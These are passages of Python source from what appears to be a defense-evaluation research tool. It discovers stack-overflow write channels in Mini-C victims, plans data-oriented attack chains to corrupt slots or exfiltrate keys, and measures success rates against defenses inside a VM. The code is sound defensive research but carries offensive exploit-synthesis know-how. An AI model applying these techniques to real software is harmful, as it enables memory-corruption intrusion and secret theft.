        return list(self.module.functions.values())

    def taint(self, function: Function) -> TaintAnalysis:
        analysis = self._taints.get(function.name)
        if analysis is None:
            analysis = TaintAnalysis(function)
            self._taints[function.name] = analysis
        return analysis

    def sinks(self, function: Function) -> List[SinkHit]:
        """Corruption-model gadget census of ``function`` (shared walk)."""
        hits = self._sinks.get(function.name)
        if hits is None:
            taint = self.taint(function)
            hits = collect_gadget_sinks(
                function, lambda value, _inst: taint.is_controlled(value)
            )
            self._sinks[function.name] = hits
        return hits

    # ------------------------------------------------------------ frames

    def layout(self, function: Function, *, canary: bool = False) -> reach.FrameLayout:
        key = (function.name, canary)
        layout = self._layouts.get(key)
        if layout is None:
            layout = reach.baseline_layout(function, canary=canary)
            self._layouts[key] = layout
        return layout

    def slot_names(self, function: Function) -> Dict[int, str]:
        """id(Alloca) -> unique slot name (reach's naming discipline)."""
        names = self._slot_names.get(function.name)
        if names is None:
            descriptor = discover_function(function)
            by_allocation = reach.unique_slot_names(descriptor.allocations)
            names = {
                id(allocation.alloca): by_allocation[id(allocation)]
                for allocation in descriptor.allocations
                if allocation.alloca is not None
            }
            self._slot_names[function.name] = names
        return names

    def slot_of(self, function: Function, alloca: Alloca) -> Optional[str]:
        return self.slot_names(function).get(id(alloca))

    def alloca_of(self, function: Function, slot: str) -> Optional[Alloca]:
        for alloca_id, name in self.slot_names(function).items():
            if name == slot:
                for alloca in function.allocas():
                    if id(alloca) == alloca_id:
                        return alloca
        return None

    def buffers(self, function: Function) -> List[str]:
        return reach.buffer_names(function)

    # ----------------------------------------------------------- globals

    def global_variable(self, name: str) -> Optional[GlobalVariable]:
        return self.module.globals.get(name)

    def find_needle(self, needle: bytes) -> Optional[NeedleLocation]:
        """Locate ``needle`` inside some global's byte image."""
        for variable in self.module.globals.values():
            image = variable.byte_image()
            offset = image.find(needle)
            if offset >= 0:
                return NeedleLocation(variable.name, offset)
        return None

    def scratch_global(self, min_size: int) -> Optional[str]:
        """A writable global big enough to stage ``min_size`` bytes."""
        for variable in self.module.globals.values():
            if variable.readonly:
                continue
            if len(variable.byte_image()) >= min_size:
                return variable.name
        return None

    def global_init_word(self, name: str) -> Optional[int]:
        """Initial 64-bit little-endian value of a global, if ≥ 8 bytes."""
        variable = self.module.globals.get(name)
        if variable is None:
            return None
        image = variable.byte_image()
        if len(image) < 8:
            image = image + b"\x00" * (8 - len(image))
        return int.from_bytes(image[:8], "little")

    # ----------------------------------------------------------- callers

    def callers(self, name: str) -> List[CallerSite]:
        if self._callers is None:
            table: Dict[str, List[CallerSite]] = {}
            for function in self.module.functions.values():
                for inst in function.instructions():
                    if isinstance(inst, Call):
                        callee = inst.callee_name()
                        if callee in self.module.functions:
                            table.setdefault(callee, []).append(
                                CallerSite(function, inst)
                            )
            self._callers = table
        return self._callers.get(name, [])

    # ------------------------------------------------------ init values

    def initial_values(self, function: Function) -> Dict[str, InitValue]:
        """Slot values provably in place before the first attacker input.

        A store counts when (a) its pointer is a direct ``alloca``, (b)
        its value is a ``Constant`` or a global's address, (c) its block
        dominates every input-builtin call site (so it has certainly
        executed by the time corruption starts), and (d) it is the only
        such store... relaxed to: the *first* dominating store wins and a
        later dominating store overwrites it (program order).  Loops
        before the first input would break (c)'s "executed once"
        reading, but dominance already guarantees execution ≥ once and
        the last dominating store in program order is the live one for
        straight-line prologues, which is the shape the extractor
        targets.
        """
        cached = self._init_values.get(function.name)
        if cached is not None:
            return cached
        values: Dict[str, InitValue] = {}
        input_blocks = [
            inst.block
            for inst in function.instructions()
            if isinstance(inst, Call) and inst.callee_name() in INPUT_BUILTINS
        ]
        reachable = reachable_blocks(function)
        tree = DominatorTree(function)
        names = self.slot_names(function)
        for block in function.blocks:
            if block not in reachable:
                continue
            if input_blocks and not all(
                tree.dominates(block, target) for target in input_blocks
            ):
                continue
            for inst in block.instructions:
                if not isinstance(inst, Store):
                    continue
                if not isinstance(inst.pointer, Alloca):
                    continue
                slot = names.get(id(inst.pointer))
                if slot is None:
                    continue
                value = inst.value
                while isinstance(value, Cast):
                    value = value.value
                if isinstance(value, Constant) and isinstance(value.value, int):
                    values[slot] = InitValue("const", value.value)
                elif isinstance(value, GlobalVariable):
                    values[slot] = InitValue("global-addr", value.name)
                else:
                    # An unknown value kills any earlier claim.
                    values.pop(slot, None)
        self._init_values[function.name] = values
        return values

    def escaped_slots(self, function: Function) -> set:
        """Slot names whose address reaches a call argument.

        A call can rewrite such a slot behind the store-graph's back
        (``input_read(&frame_len, 8)``), so its initial value must not
        feed guard evaluation.
        """
        cached = self._escaped.get(function.name)
        if cached is not None:
            return cached
        names = self.slot_names(function)
        escaped = set()

        def walk(value, depth=0):
            if depth > 16:
                return
            from repro.ir.instructions import Cast as _Cast, ElemPtr, FieldPtr

            if isinstance(value, Alloca):
                slot = names.get(id(value))
                if slot is not None:
                    escaped.add(slot)
            elif isinstance(value, _Cast):
                walk(value.value, depth + 1)
            elif isinstance(value, (ElemPtr, FieldPtr)):
                walk(value.base, depth + 1)

        for inst in function.instructions():
            if isinstance(inst, Call):
                for arg in inst.args:
                    walk(arg)
        self._escaped[function.name] = escaped
        return escaped

    # ------------------------------------------------------------ safety

    @property
    def safety(self):
        if self._safety is None:
            from repro.analysis.safety import analyze_module_safety

            self._safety = analyze_module_safety(self.module)
        return self._safety
