"""Overflow-channel discovery: how attacker bytes reach a stack buffer.

A *channel* is the planner's write primitive: a recipe that turns crafted
input chunks into an out-of-bounds linear write from some stack buffer.
Each recognized channel records its *style* (which input protocol drives
it), its per-strike byte budget, whether payload bytes must avoid NUL,
the disclosure echo (if the program re-emits the buffer region), and the
gadget *dispatcher* that lets strikes repeat:

==================  ====================================================
``direct``          ``input_read(buf, K)`` with ``K`` past the buffer
                    end, or ``input_read_unbounded(buf)``
``staged-memcpy``   length header + staging buffer + ``memcpy_`` into
                    the stack buffer (the Wireshark shape)
``staged-strcpy``   length header + ``sstrncpy_`` whose negative count
                    degenerates to an unbounded string copy (ProFTPD)
``cursor``          ``i += snprintf_sim(buf + i, SZ - i, staged)`` —
                    the cursor overshoots, later writes land past the
                    buffer surgically (librelp)
``copy-loop``       ``buf[i] = src[i]`` with an attacker-controlled
                    bound (vulnerable_logger)
==================  ====================================================

Dispatchers: ``internal`` (the channel call sits in a loop of the victim
function — the frame persists across strikes), ``external`` (the victim
is called in a caller's loop — each strike is a fresh invocation, the
caller's frame persists), ``single`` (one invocation, one strike).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Set, Tuple

from repro.analysis.taintflow import pointer_root
from repro.ir.instructions import (
    Alloca,
    BinOp,
    Call,
    Cast,
    CondBr,
    ElemPtr,
    Instruction,
    Load,
    Store,
)
from repro.ir.module import BasicBlock, Function
from repro.ir.values import Argument, Constant, Value
from repro.opt.cfg import DominatorTree, predecessors, reachable_blocks, successors
from repro.synth.facts import CallerSite, ProgramFacts

#: Cap for "unbounded" primitives: far past any frame this repo builds.
UNBOUNDED_LIMIT = 65536


def strip_casts(value: Value) -> Value:
    while isinstance(value, Cast):
        value = value.value
    return value


def const_int(value: Value) -> Optional[int]:
    value = strip_casts(value)
    if isinstance(value, Constant) and isinstance(value.value, int):
        return value.value
    return None


@dataclass
class EchoSite:
    """``output_bytes(buf, length)`` with length past the buffer end."""

    call: Call
    length: int


@dataclass
class OverflowChannel:
    """One recognized write primitive."""

    function: Function          # victim: the function holding the buffer
    buffer: str                 # slot name of the overflowed buffer
    buffer_size: int
    style: str                  # direct | staged-memcpy | staged-strcpy | cursor | copy-loop
    write_limit: int            # max payload bytes (from buffer base) per strike
    nul_free: bool              # interior NULs impossible (string copies)
    chunk_limit: int            # per-input-chunk cap (cursor jump budget)
    echo: Optional[EchoSite]
    dispatcher: str             # internal | external | single
    caller: Optional[CallerSite]
    counter_slot: Optional[str] = None  # copy-loop: the index slot
    bound_slot: Optional[str] = None    # copy-loop: the bound's spill slot

    def describe(self) -> str:
        where = f"{self.function.name}.{self.buffer}[{self.buffer_size}]"
        return (
            f"{self.style} overflow of {where}, limit {self.write_limit}, "
            f"dispatcher {self.dispatcher}"
            + (f" via {self.caller.function.name}" if self.caller else "")
        )


def _loop_blocks(function: Function) -> Set[BasicBlock]:
    """Blocks inside any natural loop of ``function``."""
    reachable = reachable_blocks(function)
    tree = DominatorTree(function)
    preds = predecessors(function)
    inside: Set[BasicBlock] = set()
    for block in function.blocks:
        if block not in reachable:
            continue
        for successor in successors(block):
            if not tree.dominates(successor, block):
                continue
            body = {successor, block}
            work = [block]
            while work:
                node = work.pop()
                for pred in preds.get(node, ()):
                    if pred not in body:
                        body.add(pred)
                        if pred is not successor:
                            work.append(pred)
            inside |= body
    return inside


def _buffer_slot(
    facts: ProgramFacts, function: Function, pointer: Value
) -> Optional[Tuple[str, int]]:
    """(slot name, size) when ``pointer`` roots at a local array buffer."""
    root = pointer_root(pointer)
    if not isinstance(root, Alloca):
        return None
    slot = facts.slot_of(function, root)
    if slot is None or slot not in facts.buffers(function):
        return None
    return slot, root.static_size()


def _scalar_slot(
    facts: ProgramFacts, function: Function, pointer: Value
) -> Optional[str]:
    root = strip_casts(pointer)
    if isinstance(root, Alloca):
        return facts.slot_of(function, root)
    return None


def _loaded_slot(
    facts: ProgramFacts, function: Function, value: Value
) -> Optional[str]:
    value = strip_casts(value)
    if isinstance(value, Load):
        return _scalar_slot(facts, function, value.pointer)
    return None


def _spill_root(value: Value) -> Optional[object]:
    """Pointer identity, following one load of a pointer spill slot.

    The frontend spills pointer parameters to allocas, so two uses of
    the same staging pointer appear as ``load(alloca(p))`` — the spill
    slot is the identity ``pointer_root`` alone cannot see.
    """
    root = pointer_root(value)
    if root is not None:
        return root
    value = strip_casts(value)
    if isinstance(value, Load):
        inner = strip_casts(value.pointer)
        if isinstance(inner, Alloca):
            return ("spill", id(inner))
    return None


def _same_root(a: Value, b: Value) -> bool:
    ra, rb = _spill_root(a), _spill_root(b)
    return ra is not None and ra == rb


def _find_echo(
    facts: ProgramFacts, function: Function, buffer_alloca: Alloca, size: int
) -> Optional[EchoSite]:
    """An ``output_bytes`` of the buffer region longer than the buffer."""
    init_values = facts.initial_values(function)
    for inst in function.instructions():
        if not isinstance(inst, Call) or inst.callee_name() != "output_bytes":
            continue
        root = pointer_root(inst.args[0])
        if root is not buffer_alloca:
            continue
        length = const_int(inst.args[1])
        if length is None:
            # length from a slot whose pre-input constant is known
            slot = _loaded_slot(facts, function, inst.args[1])
            if slot is not None:
                init = init_values.get(slot)
                if init is not None and init.kind == "const":
                    length = init.value
        if length is not None and length > size:
            return EchoSite(inst, length)
    return None


def _caller_loop_site(
    facts: ProgramFacts, function: Function
) -> Optional[CallerSite]:
    """A call site of ``function`` sitting inside a loop of its caller."""
    for site in facts.callers(function.name):
        if site.call.block in _loop_blocks(site.function):
            return site
    return None


def _dispatcher_of(
    facts: ProgramFacts, function: Function, site: Instruction
) -> Tuple[str, Optional[CallerSite]]:
    if site.block in _loop_blocks(function):
        return "internal", None
    caller = _caller_loop_site(facts, function)
    if caller is not None:
        return "external", caller
    single = facts.callers(function.name)
    return "single", single[0] if single else None


def _header_slots(facts: ProgramFacts, function: Function) -> Dict[str, Call]:
    """Scalar slots filled by an 8-byte ``input_read`` (length headers)."""
    headers: Dict[str, Call] = {}
    for inst in function.instructions():
        if isinstance(inst, Call) and inst.callee_name() == "input_read":
            if const_int(inst.args[1]) == 8:
                slot = _scalar_slot(facts, function, inst.args[0])
                if slot is not None:
                    headers[slot] = inst
    return headers


def _staging_limit(function: Function, pointer: Value) -> Optional[int]:
    """Chunk cap of the ``input_read`` that fills this staging pointer."""
    for inst in function.instructions():
        if isinstance(inst, Call) and inst.callee_name() == "input_read":
            if _same_root(inst.args[0], pointer):
                return const_int(inst.args[1])
    return None


def _copy_loop_limit(
    facts: ProgramFacts, function: Function, bound: Value
) -> Optional[int]:
    """Resolve a copy loop's bound to the caller's input chunk cap.

    The vulnerable_logger shape: the bound loads a slot spilled from an
    int parameter, and every caller passes an ``input_read`` result
    (directly or via a slot) whose limit constant caps the copy.
    """
    slot = _loaded_slot(facts, function, bound)
    if slot is None:
        return None
    alloca = facts.alloca_of(function, slot)
    if alloca is None:
        return None
    param_index: Optional[int] = None
    for inst in function.instructions():
        if isinstance(inst, Store) and strip_casts(inst.pointer) is alloca:
            value = strip_casts(inst.value)
            if isinstance(value, Argument):
                param_index = value.index
            else:
                return None
    if param_index is None:
        return None
    limits: List[int] = []
    for site in facts.callers(function.name):
        if param_index >= len(site.call.args):
            return None
        arg = strip_casts(site.call.args[param_index])
        if isinstance(arg, Load):
            got_slot = _scalar_slot(facts, site.function, arg.pointer)
            if got_slot is None:
                return None
            arg = None
            for inst in site.function.instructions():
                if isinstance(inst, Store):
                    slot_name = _scalar_slot(facts, site.function, inst.pointer)
                    if slot_name == got_slot:
                        arg = strip_casts(inst.value)
        if isinstance(arg, Call) and arg.callee_name() == "input_read":
            limit = const_int(arg.args[1])
            if limit is not None:
                limits.append(limit)
                continue
        return None
    return max(limits) if limits else None


def discover_channels(facts: ProgramFacts) -> List[OverflowChannel]:
    """All overflow channels of the program, best (longest reach) first."""
    channels: List[OverflowChannel] = []
    for function in facts.functions():
        channels.extend(_function_channels(facts, function))
    channels.sort(key=lambda c: c.write_limit, reverse=True)
    return channels


def _function_channels(
    facts: ProgramFacts, function: Function
) -> List[OverflowChannel]:
    channels: List[OverflowChannel] = []
    headers = _header_slots(facts, function)

    def buffer_of(pointer: Value):
        hit = _buffer_slot(facts, function, pointer)
        if hit is None:
            return None, None, None
        slot, size = hit
        alloca = facts.alloca_of(function, slot)
        return slot, size, alloca

    for inst in function.instructions():
        if not isinstance(inst, Call):
            continue
        callee = inst.callee_name()

        if callee in ("input_read", "input_read_unbounded"):
            slot, size, alloca = buffer_of(inst.args[0])
            if slot is None:
                continue
            limit = (
                UNBOUNDED_LIMIT
                if callee == "input_read_unbounded"
                else const_int(inst.args[1])
            )
            if limit is None or limit <= size:
                continue
            dispatcher, caller = _dispatcher_of(facts, function, inst)
            channels.append(
                OverflowChannel(
                    function,
                    slot,
                    size,
                    "direct",
                    limit,
                    nul_free=False,
                    chunk_limit=limit,
                    echo=_find_echo(facts, function, alloca, size),
                    dispatcher=dispatcher,
                    caller=caller,
                )
            )

        elif callee in ("memcpy_", "sstrncpy_"):
            slot, size, alloca = buffer_of(inst.args[0])
            if slot is None:
                continue
            count_slot = _loaded_slot(facts, function, inst.args[2])
            if count_slot is None or count_slot not in headers:
                continue
            staging = _staging_limit(function, inst.args[1])
            if staging is None or staging <= size:
                continue
            dispatcher, caller = _dispatcher_of(facts, function, inst)
            strcpy = callee == "sstrncpy_"
            channels.append(
                OverflowChannel(
                    function,
                    slot,
                    size,
                    "staged-strcpy" if strcpy else "staged-memcpy",
                    # sstrncpy_ with a negative count copies to the NUL:
                    # the staging chunk (minus its terminator) is the cap.
                    staging - 1 if strcpy else staging,
                    nul_free=strcpy,
                    chunk_limit=staging,
                    echo=_find_echo(facts, function, alloca, size),
                    dispatcher=dispatcher,
                    caller=caller,
                )
            )

        elif callee == "snprintf_sim":
            destination = strip_casts(inst.args[0])
            if not isinstance(destination, ElemPtr):
                continue
            slot, size, alloca = buffer_of(destination.base)
            if slot is None:
                continue
            cursor_slot = _loaded_slot(facts, function, destination.index)
            if cursor_slot is None:
                continue
            staging = _staging_limit(function, inst.args[2])
            if staging is None:
                continue
            # The SAN loop is internal to the victim, but the cursor
            # resets per invocation: strikes repeat per *connection*,
            # i.e. through the caller's loop.
            caller = _caller_loop_site(facts, function)
            if caller is not None:
                dispatcher = "external"
            else:
                sites = facts.callers(function.name)
                dispatcher, caller = "single", sites[0] if sites else None
            channels.append(
                OverflowChannel(
                    function,
                    slot,
                    size,
                    "cursor",
                    # one jump SAN advances the cursor at most chunk bytes
                    staging,
                    nul_free=True,
                    chunk_limit=staging,
                    echo=_find_echo(facts, function, alloca, size),
                    dispatcher=dispatcher,
                    caller=caller,
                )
            )

    # copy loops: buf[i] = src[i] with an attacker-controlled bound
    loops = _loop_blocks(function)
    seen_buffers = {c.buffer for c in channels}
    for inst in function.instructions():
        if not isinstance(inst, Store) or inst.block not in loops:
            continue
        pointer = strip_casts(inst.pointer)
        if not isinstance(pointer, ElemPtr):
            continue
        hit = _buffer_slot(facts, function, pointer.base)
        if hit is None or hit[0] in seen_buffers:
            continue
        slot, size = hit
        value = strip_casts(inst.value)
        if not isinstance(value, Load):
            continue
        source_root = pointer_root(value.pointer)
        if isinstance(source_root, Alloca):
            # copying from another local is not an input channel
            if facts.slot_of(function, source_root) is not None:
                continue
        bound = _copy_loop_bound(function, inst.block, loops)
        if bound is None:
            continue
        limit = _copy_loop_limit(facts, function, bound)
        if limit is None or limit <= size:
            continue
        counter_slot = _loaded_slot(facts, function, pointer.index)
        bound_slot = _loaded_slot(facts, function, bound)
        dispatcher, caller = _dispatcher_of(facts, function, inst)
        if dispatcher == "internal":
            # the copy loop itself is the loop; strikes cannot repeat
            caller_site = _caller_loop_site(facts, function)
            if caller_site is not None:
                dispatcher, caller = "external", caller_site
            else:
                sites = facts.callers(function.name)
                dispatcher, caller = "single", sites[0] if sites else None
        alloca = facts.alloca_of(function, slot)
        channels.append(
            OverflowChannel(
                function,
                slot,
                size,
                "copy-loop",
                limit,
                nul_free=False,
                chunk_limit=limit,
                echo=_find_echo(facts, function, alloca, size),
                dispatcher=dispatcher,
                caller=caller,
                counter_slot=counter_slot,
                bound_slot=bound_slot,
            )
        )
    return channels


def _copy_loop_bound(
    function: Function, body_block: BasicBlock, loops: Set[BasicBlock]
) -> Optional[Value]:
    """The upper bound of the loop containing ``body_block``.

    Looks for the loop's exit compare ``i < bound`` and returns the
    ``bound`` operand.
    """
    for block in function.blocks:
        if block not in loops:
            continue
        terminator = block.terminator()
        if not isinstance(terminator, CondBr):
            continue
        exits = [
            t
            for t in (terminator.true_target, terminator.false_target)
            if t not in loops
        ]
        if not exits:
            continue
        cond = strip_casts(terminator.cond)
        # frontend normalizes to cmp[ne](cmp[op](a, b), 0)
        from repro.ir.instructions import Cmp

        if isinstance(cond, Cmp) and cond.op == "ne":
            inner = strip_casts(cond.lhs)
            if isinstance(inner, Cmp) and inner.op in ("slt", "sle", "ult", "ule"):
                return inner.rhs
    return None
