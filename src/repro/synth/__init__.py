"""Automated DOP attack synthesis (the Smokestack attack compiler).

The package turns the static analyses (taint census, overflow reach,
interval facts) into an *attack compiler*: given a victim program and a
goal predicate, it plans a gadget chain, concretizes it into crafted
input bytes per deployed defense, and confirms the predicate by running
the hardened build in the VM.  Success rates over many victims become
the security metric reported in ``BENCH_synth.json``.

Layering (each module only looks down):

``goals``        goal-predicate grammar and checkers
``facts``        per-program fact base over the shared gadget census
``channels``     overflow-channel discovery (how bytes get in)
``layouts``      defense-aware payload-coordinate models
``planner``      symbolic chain search -> :class:`AttackPlan`
``concretize``   plan -> input-hook bytes per defense hypothesis
``scenario``     harness adapter + ``SlotProbe`` ground-truth tracer
``campaign``     per-defense success-rate campaigns and metrics
"""

from repro.synth.goals import CorruptGoal, ExfilGoal, Goal, parse_goal
from repro.synth.facts import ProgramFacts
from repro.synth.channels import OverflowChannel, discover_channels
from repro.synth.planner import AttackPlan, Planner, Strike, SlotWrite, synthesize
from repro.synth.campaign import (
    SoundnessError,
    SynthConfig,
    SynthSummary,
    VictimCase,
    canned_cases,
    example_cases,
    fuzz_cases,
    run_synth_campaign,
    run_victim,
    write_bench,
)
from repro.synth.scenario import SlotProbe, SynthScenario

__all__ = [
    "AttackPlan",
    "CorruptGoal",
    "SlotProbe",
    "SoundnessError",
    "SynthConfig",
    "SynthScenario",
    "SynthSummary",
    "VictimCase",
    "canned_cases",
    "example_cases",
    "fuzz_cases",
    "run_synth_campaign",
    "run_victim",
    "write_bench",
    "ExfilGoal",
    "Goal",
    "OverflowChannel",
    "Planner",
    "ProgramFacts",
    "SlotWrite",
    "Strike",
    "discover_channels",
    "parse_goal",
    "synthesize",
]
