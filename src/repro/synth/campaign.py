"""Success-rate campaigns: plan, attack, and score every defense.

This is the experiment driver behind ``repro synth`` and
``BENCH_synth.json``.  For each victim (a canned CVE reproduction, an
``examples/minic`` program, or a :mod:`repro.fuzz.victims` cohort
member) it synthesizes one attack plan from the *reference* build, then
runs that plan against every requested defense through the campaign
harness, recording the paper's headline number — the per-defense
**success rate**: the fraction of victims whose goal predicate the
attacker achieves within the restart budget.

Two soundness assertions run on every result (they are the analyses'
cross-check, not the attacker's concern):

* the planner must never emit a chain against a function whose frame
  :mod:`repro.analysis.safety` proves fully safe; and
* every slot a *successful* plan corrupts must be non-``PROVEN_SAFE``
  (the prover is one-sided: ``UNKNOWN`` is the unsafe side).

A violation raises :class:`SoundnessError` — if the attack compiler and
the prover ever disagree, the campaign must fail loudly rather than
publish a rate.

Workers recompute everything from (seed | source) so the pool protocol
only ships plain strings; metrics are emitted in the parent from the
collected results (the registry is process-local).
"""

from __future__ import annotations

import json
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.safety import PROVEN_SAFE
from repro.attacks.harness import ATTACK_MAX_STEPS, run_campaign
from repro.defenses.registry import defense_names, make_defense
from repro.obs.metrics import get_registry, worker_job_metrics
from repro.synth.facts import ProgramFacts
from repro.synth.goals import parse_goal
from repro.synth.planner import AttackPlan, synthesize
from repro.synth.scenario import SynthScenario

DEFAULT_RESTARTS = 8
DEFAULT_SEED = 11


class SoundnessError(AssertionError):
    """The planner and the safety prover disagree — stop the campaign."""


@dataclass(frozen=True)
class VictimCase:
    """One victim program plus its goal, in picklable form."""

    name: str
    source: str
    goal: str  #: goal-grammar text (``exfil:…`` / ``corrupt:…``)
    #: cohort tags for aggregate reporting ("canned", "example", "fuzz")
    kind: str = "fuzz"
    #: ground truth, when known: False means no plan is *expected*
    expect_plan: Optional[bool] = None


@dataclass
class DefenseOutcome:
    """One (victim, defense) campaign, summarized."""

    defense: str
    verdict: str
    successes: int
    attempts: int
    breakdown: Dict[str, int]
    first_success: Optional[int]  #: 1-based attempt index


@dataclass
class VictimResult:
    name: str
    kind: str
    planned: bool
    plan_summary: Optional[str] = None
    error: Optional[str] = None
    defenses: List[DefenseOutcome] = field(default_factory=list)
    soundness: List[str] = field(default_factory=list)
    #: static exploitability verdicts (defense -> verdict string), when
    #: the exploit prover cross-check ran
    exploit_verdicts: Dict[str, str] = field(default_factory=dict)


def check_plan_soundness(
    facts: ProgramFacts, plan: Optional[AttackPlan]
) -> List[str]:
    """Cross-check a plan against the bounds-safety prover.

    Returns human-readable violations (empty list == sound).
    """
    if plan is None:
        return []
    violations: List[str] = []
    safety = facts.safety
    victim = plan.channel.function.name
    record = safety.functions.get(victim)
    if record is not None and record.proven:
        violations.append(
            f"chain planned against {victim}, which the prover marks fully PROVEN_SAFE"
        )
    caller = (
        plan.channel.caller.function.name
        if plan.channel.caller is not None
        else None
    )
    for strike in plan.strikes:
        for write in strike.writes:
            function = victim if write.frame == "victim" else caller
            if function is None:
                continue
            verdict = safety.verdict(function, write.slot)
            if verdict == PROVEN_SAFE:
                violations.append(
                    f"corruption target {function}.{write.slot} is PROVEN_SAFE"
                )
    return violations


def check_exploit_soundness(
    facts: ProgramFacts,
    case: VictimCase,
    goal,
    outcomes: Sequence[DefenseOutcome],
    verdicts_out: Optional[Dict[str, str]] = None,
) -> List[str]:
    """Cross-check the static exploitability prover against VM outcomes.

    The two mechanical gates from the prover's contract:

    1. a ``PROVABLY_ROBUST`` verdict contradicted by a VM-confirmed
       success is a soundness violation (the prover claimed no chain
       exists under *any* deployable layout);
    2. a ``PROVABLY_EXPLOITABLE`` verdict under a deterministic
       (single-layout) defense that the VM campaign then *failed* to
       confirm is equally fatal — certain reach must concretize.

    Additionally, unexploitable control victims (``expect_plan=False``)
    must come back ``PROVABLY_ROBUST`` under every modeled defense.
    """
    try:
        from repro.analysis.exploit import (
            DETERMINISTIC_DEFENSES,
            EXPLOITABLE,
            ROBUST,
            ExploitProver,
        )
        from repro.analysis.reach import MODELED_DEFENSES

        prover = ExploitProver(facts)
        violations: List[str] = []
        checked = {o.defense for o in outcomes if o.defense in MODELED_DEFENSES}
        if case.expect_plan is False:
            checked |= set(MODELED_DEFENSES)
        for defense in sorted(checked):
            verdict = prover.prove(goal, defense).verdict
            if verdicts_out is not None:
                verdicts_out[defense] = verdict
            if case.expect_plan is False and verdict != ROBUST:
                violations.append(
                    f"unexploitable control classified {verdict} "
                    f"under {defense} (must be {ROBUST})"
                )
        for outcome in outcomes:
            verdict = (verdicts_out or {}).get(outcome.defense)
            if verdict is None:
                if outcome.defense not in MODELED_DEFENSES:
                    continue
                verdict = prover.prove(goal, outcome.defense).verdict
            if outcome.successes > 0 and verdict == ROBUST:
                violations.append(
                    f"prover says {ROBUST} under {outcome.defense} but the "
                    f"VM confirmed {outcome.successes} attack success(es)"
                )
            if (
                verdict == EXPLOITABLE
                and outcome.defense in DETERMINISTIC_DEFENSES
                and outcome.successes == 0
            ):
                violations.append(
                    f"prover says {EXPLOITABLE} under deterministic defense "
                    f"{outcome.defense} but no VM attempt succeeded "
                    f"({outcome.breakdown})"
                )
        return violations
    except Exception as error:  # the cross-check must never mask results
        return [f"exploit prover error: {type(error).__name__}: {error}"]


def run_victim(
    case: VictimCase,
    defenses: Sequence[str],
    restarts: int = DEFAULT_RESTARTS,
    seed: int = DEFAULT_SEED,
    stop_on_success: bool = True,
    max_steps: int = ATTACK_MAX_STEPS,
    exploit_check: bool = True,
) -> VictimResult:
    """Synthesize against one victim and campaign every defense."""
    try:
        facts = ProgramFacts(case.source, case.name)
        goal = parse_goal(case.goal)
        plan = synthesize(facts, goal)
    except Exception as error:  # compile or planner failure: a data point
        return VictimResult(
            case.name, case.kind, planned=False, error=f"{type(error).__name__}: {error}"
        )
    result = VictimResult(case.name, case.kind, planned=plan is not None)
    result.soundness = check_plan_soundness(facts, plan)
    if plan is not None:
        result.plan_summary = plan.describe()
        for defense_name in defenses:
            scenario = SynthScenario(facts, plan, defense_name, name=case.name)
            report = run_campaign(
                scenario,
                make_defense(defense_name),
                restarts=restarts,
                seed=seed,
                stop_on_success=stop_on_success,
            )
            first = report.first_success
            result.defenses.append(
                DefenseOutcome(
                    defense=defense_name,
                    verdict=report.verdict(),
                    successes=report.count("success"),
                    attempts=report.total,
                    breakdown=report.breakdown(),
                    first_success=None if first is None else first + 1,
                )
            )
    if exploit_check:
        result.soundness.extend(
            check_exploit_soundness(
                facts, case, goal, result.defenses, result.exploit_verdicts
            )
        )
    return result


def _run_victim_job(job: dict) -> VictimResult:
    """Pool entry point: rebuild the case and run it."""
    case = VictimCase(**job["case"])
    return run_victim(
        case,
        job["defenses"],
        restarts=job["restarts"],
        seed=job["seed"],
        stop_on_success=job["stop_on_success"],
        max_steps=job["max_steps"],
        exploit_check=job.get("exploit_check", True),
    )


def _run_victim_job_pooled(job: dict) -> Tuple[VictimResult, dict]:
    """Pool-worker wrapper: ship this job's metrics delta home.

    Counters incremented while planning/attacking inside a worker
    (pipeline compiles, exploit-prover series, JIT deopts) live in the
    worker's process-global registry; the parent merges the returned
    delta so jobs=1 and jobs=N campaigns report identical totals.
    """
    registry = worker_job_metrics()
    result = _run_victim_job(job)
    return result, registry.dump()


# --------------------------------------------------------------------------
# victim suites
# --------------------------------------------------------------------------


def canned_cases() -> List[VictimCase]:
    """The four CVE reproductions, as goal-driven synthesis targets."""
    from repro.attacks import dop, librelp, proftpd, wireshark
    from repro.attacks.overflow import le64

    return [
        VictimCase(
            "canned-listing1",
            dop.SOURCE,
            "exfil:" + le64(dop.EXPECTED_PRODUCT).hex(),
            kind="canned",
            expect_plan=True,
        ),
        VictimCase(
            "canned-wireshark",
            wireshark.SOURCE,
            "exfil:" + wireshark.CAPTURE_KEY.hex(),
            kind="canned",
            expect_plan=True,
        ),
        VictimCase(
            "canned-proftpd",
            proftpd.SOURCE,
            "exfil:" + proftpd.SSL_KEY.hex(),
            kind="canned",
            expect_plan=True,
        ),
        VictimCase(
            "canned-librelp",
            librelp.SOURCE,
            "exfil:" + librelp.PRIVATE_KEY.hex(),
            kind="canned",
            expect_plan=True,
        ),
    ]


def example_cases(examples_dir: str = "examples/minic") -> List[VictimCase]:
    """The checked-in Mini-C examples: one vulnerable, one proven-safe."""
    import os

    cases = []
    logger = os.path.join(examples_dir, "vulnerable_logger.c")
    if os.path.exists(logger):
        with open(logger) as handle:
            cases.append(
                VictimCase(
                    "example-vulnerable-logger",
                    handle.read(),
                    "corrupt:format_entry.quota=16",
                    kind="example",
                    expect_plan=True,
                )
            )
    clean = os.path.join(examples_dir, "checksum_clean.c")
    if os.path.exists(clean):
        with open(clean) as handle:
            cases.append(
                VictimCase(
                    "example-checksum-clean",
                    handle.read(),
                    "corrupt:main.total=7",
                    kind="example",
                    expect_plan=False,  # fully PROVEN_SAFE: no chain may exist
                )
            )
    return cases


def fuzz_cases(count: int, start_seed: int = 0) -> List[VictimCase]:
    from repro.fuzz.victims import generate_victims

    return [
        VictimCase(
            f"fuzz-{spec.seed}",
            spec.source,
            "exfil:" + spec.secret.hex(),
            kind="fuzz",
            expect_plan=spec.exploitable,
        )
        for spec in generate_victims(count, start_seed)
    ]


# --------------------------------------------------------------------------
# the campaign proper
# --------------------------------------------------------------------------


@dataclass(frozen=True)
class SynthConfig:
    defenses: Tuple[str, ...] = ()
    restarts: int = DEFAULT_RESTARTS
    seed: int = DEFAULT_SEED
    jobs: int = 1
    stop_on_success: bool = True
    max_steps: int = ATTACK_MAX_STEPS
    #: cross-check every result against the static exploitability prover
    exploit_check: bool = True

    def defense_list(self) -> List[str]:
        return list(self.defenses) if self.defenses else sorted(defense_names())


@dataclass
